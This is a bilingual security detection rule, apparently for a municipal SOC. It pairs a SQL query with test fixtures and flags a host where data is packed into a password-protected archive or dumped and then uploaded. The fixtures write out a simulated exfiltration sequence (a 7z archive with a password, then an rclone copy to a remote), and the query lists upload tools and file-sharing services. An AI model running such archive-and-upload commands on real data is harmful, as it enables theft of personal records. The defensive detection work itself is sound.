/*---
id = "DB-15"
title.en = "Data packed and sent out"
title.it = "Dati raccolti e mandati fuori"
description.en = "On one machine data are packed into an archive with a password, or dumped, and within hours a program that uploads is started."
description.it = "Sulla stessa macchina i dati vengono chiusi in un archivio con password, o estratti, e in poche ore parte un programma che li carica altrove."
severity = "critical"
family = "database"
window = "12h"
entity = ["host_name"]
attack = ["T1560.001", "T1567.002", "T1041"]
acn_class = "Esfiltrazione / IS-1"
requires = { columns = ["host_name", "process_command_line"] }
false_positives = ["the copy to the cloud made by a script of ours"]
false_positives_it = ["la copia in cloud fatta da uno script nostro"]
response_it = [
  "1. Staccare la macchina dalla rete.",
  "2. Bloccare la destinazione sul firewall.",
  "3. Vedere che cosa c'era nell'archivio: il DPO decide se avviare le 72 ore.",
  "4. COSC.",
]

[[test]]
name = "packed with a password, then uploaded"
alerts = [{ host_name = "SRV-FILE.comune.example" }]
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-FILE.comune.example","event_data":{"Image":"C:\\Temp\\7z.exe","CommandLine":"7z.exe a -pSegreto -mhe c:\\temp\\a.7z d:\\anagrafe","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"COMUNE\\mrossi"}}}'''
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-FILE.comune.example","event_data":{"Image":"C:\\Temp\\rclone.exe","CommandLine":"rclone.exe copy c:\\temp\\a.7z remoto:x","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"COMUNE\\mrossi"}}}'''
at = "40m"

[[test]]
name = "an archive for a colleague"
alerts = []
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"PC-RAG-01.comune.example","event_data":{"Image":"C:\\Program Files\\7-Zip\\7z.exe","CommandLine":"7z.exe a c:\\temp\\a.7z d:\\foto","ParentImage":"C:\\Windows\\explorer.exe","User":"COMUNE\\mrossi"}}}'''
---*/
SELECT host_name, min(user_name) AS user_name
FROM events
WHERE event_action IN ('process_start', 'privilege_use') AND host_name IS NOT NULL
  AND (regexp_like(process_command_line, '((7za?|rar|winrar|zip)(\.exe)?"?\s.*\s-(hp|p|mhe|P|-password|e\s)|gpg\s.*(-c|--symmetric)|openssl\s+enc\s|(pg_dump|mysqldump|expdp)\s)', 'i')
    OR regexp_like(process_command_line, '(rclone(\.exe)?"?\s+(copy|sync|move)|megacmd|mega-put|transfer\.sh|file\.io|gofile\.io|temp\.sh|curl(\.exe)?"?\s.*(-T|--upload-file)\s)', 'i'))
GROUP BY host_name
HAVING count(*) FILTER (WHERE regexp_like(process_command_line, '((7za?|rar|winrar|zip)(\.exe)?"?\s.*\s-(hp|p|mhe|P|-password|e\s)|gpg\s.*(-c|--symmetric)|openssl\s+enc\s|(pg_dump|mysqldump|expdp)\s)', 'i')) >= 1
   AND count(*) FILTER (WHERE regexp_like(process_command_line, '(rclone(\.exe)?"?\s+(copy|sync|move)|megacmd|mega-put|transfer\.sh|file\.io|gofile\.io|temp\.sh|curl(\.exe)?"?\s.*(-T|--upload-file)\s)', 'i')) >= 1
